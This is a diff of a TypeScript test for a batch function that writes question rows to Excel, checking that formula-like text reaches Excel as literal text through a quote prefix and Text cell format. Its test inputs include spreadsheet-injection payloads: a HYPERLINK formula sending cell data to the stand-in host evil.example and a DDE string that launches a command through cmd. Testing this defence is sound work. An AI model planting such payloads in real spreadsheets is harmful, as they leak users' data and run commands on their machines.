@@ -83,17 +83,30 @@ describe('runBoardBatch', () => {
     expect(t.rows[0]!.every((v) => v === '')).toBe(true);
   });
 
-  it('writes formula-like text as literal text: the cells hold exactly what was given, no formula', async () => {
+  it('sends formula-like text so Excel cannot take it for a formula: checked on the raw values and formats sent', async () => {
     const evil = ['=HYPERLINK("https://evil.example/?x="&A1,"開く")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A9)', "'quoted"];
     await writeQuestions(questionRows(evil.length, (i) => evil[i]!));
-    const sent = excel.writes.find((w) => w.op === 'values')!.data as CellValue[][];
-    const formats = excel.writes.find((w) => w.op === 'numberFormat')!.data as string[][];
+    // What the fake received, not what it (or the preview's model of Excel) made of it.
+    const values = excel.writes.filter((w) => w.op === 'values');
+    const formats = excel.writes.filter((w) => w.op === 'numberFormat');
+    expect(values.map((w) => [w.row, w.column])).toEqual(formats.map((w) => [w.row, w.column]));
+    // Excel's rules, stated here on their own: a string written to a cell is entered like typed input, so one
+    // starting with = + - @ becomes a formula — unless the cell's format is Text ('@') or the string starts
+    // with the quote prefix ', which Excel consumes and stores the rest as text.
+    const enteredAsFormula: string[] = [];
+    values.forEach((w, k) => w.data.forEach((row, r) => row.forEach((cell, c) => {
+      const format = (formats[k]!.data[r] as (string | null)[])[c];
+      if (typeof cell === 'string' && /^[=+\-@]/.test(cell) && format !== '@') enteredAsFormula.push(`${r},${c}: ${cell}`);
+    })));
+    expect(enteredAsFormula).toEqual([]);
+    const sent = values[0]!.data as CellValue[][];
+    const sentFormats = formats[0]!.data as string[][];
     evil.forEach((text, i) => {
       expect(sent[i]![at('件名')]).toBe(`'${text}`);
-      expect(formats[i]![at('件名')]).toBe('@');
-      expect(excel.cell('質問', i + 1, at('件名')).value).toBe(text);
+      expect(sentFormats[i]![at('件名')]).toBe('@');
+      // The quote prefix is consumed: the cell shows the text exactly as given.
+      expect((sent[i]![at('件名')] as string).slice(1)).toBe(text);
     });
-    expect(excel.formulas(TABLE.questions)).toEqual([]);
   });
 
   it('leaves a column the user added untouched (null cells) while rewriting the rest', async () => {
